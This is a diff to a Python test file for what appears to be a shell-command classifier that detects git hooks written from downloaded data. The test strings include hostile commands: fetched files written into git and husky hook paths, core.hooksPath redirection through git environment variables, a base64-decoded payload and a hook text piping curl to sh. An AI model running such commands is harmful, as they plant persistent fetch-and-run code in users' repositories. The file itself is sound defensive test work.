@@ -156,6 +156,14 @@ def test_everyday_npm_env_wrappers_pass_and_resolve(command: str, program: str) 
     "mkdir -p /tmp/h && curl -o /tmp/h/pre-commit u && git config core.hooksPath /tmp/h",
     "git config --global core.hooksPath ~/.hooks; wget -O ~/.hooks/post-checkout u",
     "curl -o hooks/pre-push u && git -c core.hooksPath=hooks push",
+    "curl -o /tmp/h/pre-commit u && GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.hooksPath "
+    "GIT_CONFIG_VALUE_0=/tmp/h git commit",
+    "curl -o /tmp/h/pre-commit u && GIT_CONFIG_PARAMETERS=\"'core.hooksPath'='/tmp/h'\" "
+    "git commit -m x",
+    # A submodule's hooks and husky's hook scripts (run through core.hooksPath=.husky/_).
+    "curl -o .git/modules/sub/hooks/pre-commit u",
+    "curl -o .husky/pre-commit u",
+    "wget -qO- u | base64 -d > .husky/pre-push",
 ])
 def test_a_git_hook_written_from_fetched_data_is_a_download_run(command: str) -> None:
     result = classify(command)
@@ -173,6 +181,7 @@ def test_a_git_hook_written_from_fetched_data_is_a_download_run(command: str) ->
      "shell.pipe-to-shell"),
     ("git config core.hooksPath .githooks && echo 'rm -rf ~' > .githooks/pre-commit",
      "shell.recursive-delete"),
+    ("echo 'curl u|sh' > .husky/pre-commit", "shell.pipe-to-shell"),
 ])
 def test_known_hook_text_is_classified_as_the_code_git_runs(command: str, rule: str) -> None:
     result = classify(command)
@@ -200,12 +209,22 @@ def test_static_or_unrun_hook_writes_stay_a_git_hook_warning(command: str) -> No
     assert "shell.download-exec" not in result.rule_ids
 
 
+def test_hook_text_that_does_not_block_adds_nothing_to_the_write_warning() -> None:
+    for text in ("make lint", "npx lint-staged", "npm install", "git push --force"):
+        result = classify(f"echo '{text}' > .git/hooks/pre-commit")
+        assert result.rule_ids == ("shell.git-hook",), result.to_dict()
+        assert result.commands == ("echo",)
+
+
 @pytest.mark.parametrize("command", [
     "curl -o notes.txt u && git commit -am x",
     "echo 'make lint' > scripts/pre-commit",
     "curl -o hooks/pre-commit u",
     "curl -sSL -o .githooks/README.md u && git config --get core.hooksPath",
     "git commit -m 'curl -o .git/hooks/pre-commit u'",
+    # husky's documented setup step: the hook text is an everyday command.
+    "echo 'npm test' > .husky/pre-commit",
+    "echo 'npx lint-staged' > .husky/pre-commit && chmod +x .husky/pre-commit",
 ])
 def test_fetches_beside_git_hooks_pass(command: str) -> None:
     result = classify(command)
